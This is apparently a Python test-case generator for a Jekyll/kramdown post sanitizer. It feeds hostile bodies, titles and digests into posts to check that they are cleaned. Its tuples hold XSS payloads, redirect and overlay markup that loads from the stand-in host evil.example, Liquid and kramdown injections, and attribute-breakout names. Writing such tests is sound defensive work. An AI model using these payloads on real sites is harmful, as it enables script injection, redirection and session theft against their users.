"""Posts that somebody means ill with: bodies, titles and digests that would run, swallow the footer or stop the build."""

import json
from collections.abc import Iterator
from pathlib import Path

from jekyll.post_case import Case, post

from crawler.demo.securities import SECURITIES
from crawler.demo.stock_links import kline_block

ROWS: list[str] = json.loads((Path(__file__).parents[1] / "body" / "data" / "hostile.json").read_text("ascii"))
"""What the cleaning itself is tested with: XSS evasion, mutation XSS, unclosed and crossed tags, Liquid, kramdown."""

PAGE_TAKERS = (  # what would reach beyond the body: swallow, overlay, redirect or restyle the page round it
    "<p>x</p></section></div></body></html><script>alert(1)</script>", "<p>x</p></section><h1>y</h1>", "<p>x</p><div><div><div>",
    "<p>x</p><!--", "<p>x</p><!-- y", "<p>x</p><![CDATA[", "<p>x</p><?php", "<p>x</p><textarea>", "<p>x</p><title>", "<p>x</p><xmp>",
    "<p>x</p><plaintext>", "<p>x</p><noscript>", "<p>x</p><template>", "<p>x</p><select><option>", "<p>x</p><svg>", "<p>x</p><math>",
    "<p>x</p><table><tr><td>", "<p>x</p><pre>", "<p>x</p><a href='//evil.example/'>", "<p>x</p><button>", "<p>x</p><style>", "<p>x</p><script>",
    "<p>x</p><iframe>", "<p>x</p><object>", "<p>x</p><audio>", "<p>x</p><ul><li>", "<p>x</p><b><i><font size='7'>", '<p>x</p><a name="',
    "<p>x</p><p title='", "<p>x</p><img src='//evil.example/?", "<p>x</p><meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<meta http-equiv='refresh' content='0;url=http://evil.example/'><p>x</p>", "<base href='//evil.example/'><p>x</p>",
    "<link rel='stylesheet' href='//evil.example/x.css'><p>x</p>", "<link rel='prefetch' href='//evil.example/'><p>x</p>",
    "<style>@import '//evil.example/x.css';</style><p>x</p>", "<style>section{display:none}</style><p>x</p>",
    "<div style='background:url(//evil.example/x.png)'>x</div>", "<table background='//evil.example/x.png'><tr><td>x</td></tr></table>",
    "<div style='position:fixed;inset:0;z-index:9'>x</div>", "<p style='margin-top:-9999px;transform:scale(99)'>x</p>",
    "<video poster='//evil.example/x.png'></video><p>x</p>", "<input type='image' src='//evil.example/x.png'>", "<p>x]]></p>", "]]>",
    "<p>x]]><script>alert(1)</script></p>", "<!-- ]]> --><p>x</p>", "<p title=']]>'>x</p>", "<a href='//evil.example/' ping='//evil.example/'>x</a>",
    "<img srcset='//evil.example/x.png 1x'>", "<picture><source srcset='//evil.example/x.png'><img></picture>", "<p>x\x0by\x1bz</p>", "<p>\ufffe</p>",
)  # fmt: skip
MARKDOWN = (  # what kramdown or Liquid would do something with at the top level, before, between and behind blocks
    "{{ site.posts }}", "{{", "{{ 'a' | b", "{%", "{% foo %}", "{% include x %}", "{% raw %}", "{% endraw %}", "{% raw %}{{ x }}{% endraw", "{% comment %}",
    "{% if %}", "{% for p in site.posts %}", "{% capture x %}", "{% assign x = 1", "{%- seo -%}", "{% highlight ruby %}", "{% link x %}", "{% post_url x %}",
    '{::options parse_block_html="true" /}', '{::options auto_ids="true"/}', '{::options toc_levels="x" /}', '{::options entity_output="x" /}',
    '{::options input="x" /}', "{::nomarkdown}\n<script>alert(1)</script>\n{:/nomarkdown}", "{::comment}", "{::comment}\n", "{:/}", "{: style='position:fixed'}",
    "{:a: onclick='alert(1)'}", "{:toc}", "* a\n{:toc}", "> a", "> a\n> b", "# a", "a\n===", "a\n---", "---", "--- \n", "\n---\n", "---\nlayout: x\n---\n",
    "    code", "\tcode", "```", "```\n", "~~~", "~~~ ruby\n", "- a", "1. a", "* a\n  * b", "a\n: b", ": b", "|a|b|", "a | b\n--|--\n", "$$", "$$\nx\n$$",
    "[a]: http://evil.example/", "[返回首页]: javascript:alert(1)", "[1]: <javascript:alert(1)> 'x'", "[a](javascript:alert(1))", "![a](//evil.example/x.png)",
    "[^1]: x", "x[^1]", "[^1]: x\n\n    y", "*[返回]: x", "*[HTML]: <b>", "<javascript:alert(1)>", "<http://evil.example/>", "^", "***", "_ _ _", "\\", "`", "``",
    "*", "**", "_", "<", "&", "&#", "&lt", "[", "](", "![", "\n\n\n", "\r\n\r\n", "\u2028", "\x85", " \n \n", "a  \nb", "a\\\\\nb", "<!-- x -->", "<!-- x",
)  # fmt: skip
TITLES = (
    "<script>alert(1)</script>", "</h1><script>alert(1)</script>", "</title><script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<!--", "<!-- x",
    "</section></div></body>", "<plaintext>", "<textarea>", "<style>", "<svg onload=alert(1)>", "<a href=javascript:alert(1)>x", '" onmouseover="alert(1)',
    "' onmouseover='alert(1)", '"><script>alert(1)</script>', "</script><script>alert(1)</script>", "{% foo %}", "{{ 'x' | foo }}", "{% raw %}", "{{", "{%",
    '{::options parse_block_html="true" /}', "{::nomarkdown}<script>alert(1)</script>{:/}", "{: onclick='alert(1)'}", "]]><script>alert(1)</script>",
    "[x](javascript:alert(1))", "![x](//evil.example/x.png)", "<//evil.example/>", "<meta http-equiv=refresh content=0;url=//evil.example/>", "&lt;script&gt;",
    "x\nlayout: none", 'x"\nlayout: none\ny: "', "x\n---\n<script>alert(1)</script>", "\u2028---\u2028", "x\x85y: z", '\\"', "\\", '"', "'", "\x00", "\ud800", "<?php", "<![CDATA[",
    "<scr\x00ipt>alert(1)</scr\x00ipt>", "<\u2028script>", "<math><mtext>", "&#60;script&#62;alert(1)", "&lt;img src=x onerror=alert(1)&gt;",
)  # fmt: skip
NAMES = (  # of a medium, which layouts print raw in text and in attributes, and posts in a Markdown link
    '报"/tabindex="1"/autofocus/onfocus="alert(1)//', "报'/tabindex='1'/onfocus='alert(1)//", '"x', "x\"y'z", "x'y", "x'onclick='alert(1)", '" autofocus "',
    "x]:y", "[x]:y", "x]: javascript:alert(1)", "[^1]", "x[", "]x", "[x]", "[x](y)", "a](javascript:alert(1))", "[a][b]", "[[a]]", "x$$]:", "$$x$$", "$$", "x] y",
    "x](y){:onclick", "![x]", "x&quot;y", "&#34; onclick=&#34;alert(1)", "x&lt;script&gt;", "x=y", "(x)", "x)", "x\u3000y", '" style="position:fixed', '"onclick=alert(1)',
)  # fmt: skip


def hostile(first: int) -> Iterator[Case]:
    """Every row alone, and between the blocks of an article; numbers begin at ``first``."""
    number = first
    block = kline_block(SECURITIES[0], linked=True)
    shapes = (
        "{}", f"{block}<p>前文</p>{{}}<p>后文</p>", "<p>前文{}后文</p>", f"{{}}\n{block}", f"{block}\r\n {{}}", "<p>前文</p>\n\n{}\n\n<p>后文</p>",
    )  # fmt: skip
    sorts = {"evasion": ROWS, "page": PAGE_TAKERS, "markdown": MARKDOWN}
    for sort, rows in sorts.items():
        for row in rows:
            for shape in _some(shapes, number, 1 if sort == "evasion" else 2):
                body = shape.replace("{}", row)
                emnews = number % 7 == 0
                profile = "source" if number % 2 else "standard"
                made = post(number, f"{sort} {number}", body, digest="摘要。" if emnews else None)
                yield Case(f"hostile {sort}: {row[:60]!r} in {shapes.index(shape)}", made, profile, hostile=True)
                number += 1
    for title in TITLES:
        made = post(number, title, f"{block}<p>正文</p>", digest="摘要。" if number % 3 == 0 else None)
        yield Case(f"hostile title: {title[:60]!r}", made, "standard", hostile=True, shows=("正文",))
        number += 1
    for digest in (*MARKDOWN, *PAGE_TAKERS[::4], *TITLES[::4], *ROWS[::8]):
        made = post(number, f"digest {number}", f"{block}<p>正文</p>", digest=digest)
        yield Case(f"hostile digest: {digest[:60]!r}", made, "standard", hostile=True, shows=("正文",))
        number += 1


def _some(shapes: tuple[str, ...], number: int, count: int) -> tuple[str, ...]:
    """``count`` of the shapes, others for the next row."""
    return tuple(shapes[(number + step) % len(shapes)] for step in range(0, 2 * count, 2))
